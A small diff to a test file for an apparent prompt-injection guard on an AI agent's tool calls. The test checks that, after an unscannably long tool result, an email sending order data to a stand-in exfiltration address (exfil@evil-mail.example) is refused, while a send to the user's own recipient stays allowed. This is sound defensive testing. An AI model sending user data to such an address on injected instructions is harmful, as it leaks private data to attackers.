@@ -372,5 +372,6 @@ def test_a_result_too_long_to_scan_counts_as_injected_throughout(make_guard):
         assert "too long to check" in res.instructions[0]
         d = run.tool_call("send_email", {"to": "exfil@evil-mail.example", "body": "orders"})
         assert d.action.value == "refuse" and d.deciding.rule == "taint.suspicious" and "list_orders" in d.reason
+        assert "too long to check for instructions" in d.reason
         # what the user gave stays usable
         assert run.tool_call("send_email", {"to": "boss@example.com", "body": "12 orders today"}).allowed
